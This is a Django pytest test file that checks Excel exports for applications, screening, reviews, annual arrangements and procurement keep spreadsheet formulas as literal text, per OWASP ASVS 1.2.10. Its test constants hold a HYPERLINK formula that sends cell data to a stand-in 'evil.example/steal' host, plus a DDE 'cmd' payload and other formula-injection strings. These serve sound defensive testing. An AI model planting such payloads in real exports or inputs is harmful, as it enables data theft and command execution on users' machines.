"""Exports carry data, not formulas (issue 12, item 8).

OWASP ASVS 5.0 1.2.10 (formula / CSV injection: output that a spreadsheet interprets is
escaped) and GB/T 22239-2019 8.1.4.9 (integrity of data handed out). A project or application
named `=HYPERLINK(...)` must come out of every Excel export as a literal text cell.
"""

import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from apps.applications.models import Application
from apps.determination.models import ArrangementEntry
from apps.projects.models import Project
from apps.review import services as review_services
from apps.review.models import ExpertAssignment
from tests.applications.builders import submitted_application
from tests.calls.factories import CallFactory
from tests.factories import UserFactory
from tests.procurement.world import build_world, draft
from tests.review.world import BEST, review_world

pytestmark = pytest.mark.django_db
EVIL = '=HYPERLINK("http://evil.example/steal?d="&A1,"点击查看")'
OTHERS = ("+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1")


def _workbook(response):
    assert response.status_code == 200, response.status_code
    return load_workbook(io.BytesIO(response.content))


def assert_literal(response, *expected: str) -> None:
    """Every expected text is in the workbook, each time as a string cell, unchanged."""
    book = _workbook(response)
    found = {}
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{cell.coordinate} holds a formula: {cell.value!r}"
                if cell.value in expected:
                    assert cell.data_type == "s"
                    assert cell.quotePrefix
                    found[cell.value] = found.get(cell.value, 0) + 1
    assert set(found) == set(expected), f"missing in the export: {set(expected) - set(found)}"


def _name_applications(queryset, *names):
    for application, name in zip(queryset.order_by("pk"), names, strict=False):
        Application.unscoped.filter(pk=application.pk).update(project_name=name)


def test_asvs_1_2_10_application_list_export(client):
    call = CallFactory()
    for _ in range(1 + len(OTHERS)):
        submitted_application(call)
    _name_applications(Application.unscoped.filter(call=call), EVIL, *OTHERS)
    office = UserFactory(role="office", organisation__jurisdiction=call.jurisdiction)
    client.force_login(office)
    assert_literal(client.get("/applications/?export=xlsx"), EVIL, *OTHERS)


def test_asvs_1_2_10_screening_export(client):
    from apps.screening.services import screening_run

    call = CallFactory()
    submitted_application(call)
    _name_applications(Application.unscoped.filter(call=call), EVIL)
    screening_run(call=call)
    office = UserFactory(role="office", organisation__jurisdiction=call.jurisdiction)
    client.force_login(office)
    assert_literal(client.get(f"/screening/calls/{call.pk}/?export=xlsx"), EVIL)


def test_asvs_1_2_10_review_score_sheet_and_combined_table(client):
    world = review_world(applications=2)
    _name_applications(Application.unscoped.filter(call=world.call), EVIL)
    assignments = ExpertAssignment.unscoped.filter(round__call=world.call)
    for assignment in assignments:
        review_services.score_sheet_save(
            expert=assignment.expert,
            assignment=assignment,
            scores=BEST,
            bonus={},
            vetoes={},
            submit=True,
        )
    evil_assignment = assignments.filter(application__project_name=EVIL).first()
    client.force_login(evil_assignment.expert)
    sheet = client.get(reverse("review:sheet", args=[evil_assignment.pk]), {"export": "xlsx"})
    # The name is part of a preamble line there; the line must not become a formula either.
    preamble = f"{evil_assignment.application.number} {EVIL}"
    book = _workbook(sheet)
    cells = [c for row in book.active.iter_rows() for c in row if c.value]
    assert any(preamble in str(c.value) for c in cells)
    assert all(c.data_type != "f" for c in cells)

    review_services.review_round_close(user=world.office, review_round=world.call.review_round)
    client.force_login(world.office)
    url = reverse("review:round", args=[world.call.pk])
    assert_literal(client.get(url, {"export": "xlsx"}), EVIL)


def test_asvs_1_2_10_annual_arrangement_export(client):
    from decimal import Decimal

    from apps.determination import services as determination
    from apps.determination.models import AnnualArrangement
    from tests.determination.builders import province_office, reviewed_city, run_to

    city = reviewed_city(name="甲市", amounts=(Decimal("400000.00"),))
    run_to(city, "filed")
    office = province_office()
    arrangement = determination.arrangement_compile(
        user=office, province=office.organisation.jurisdiction, year=2027
    )
    ArrangementEntry.unscoped.filter(arrangement=arrangement).update(project_name=EVIL)
    arrangement = AnnualArrangement.unscoped.get(pk=arrangement.pk)
    client.force_login(office)
    url = reverse("determination:arrangement", args=[arrangement.pk])
    assert_literal(client.get(url, {"export": "xlsx"}), EVIL)


def test_asvs_1_2_10_procurement_traceability_export(client):
    from apps.procurement.models import Procurement, RequirementItem

    a, _ = build_world()
    procurement = draft(a, requirements=1)
    RequirementItem.objects.filter(procurement=procurement).update(name=EVIL)
    Procurement.unscoped.filter(pk=procurement.pk).update(title="@SUM(1+1)")
    Project.unscoped.filter(pk=a.project.pk).update(name="-1+1")
    client.force_login(a.office)
    response = client.get(f"/procurement/projects/{a.project.pk}/traceability/?export=xlsx")
    assert_literal(response, EVIL, "@SUM(1+1)")
    assert all(c.data_type != "f" for row in _workbook(response).active.iter_rows() for c in row)
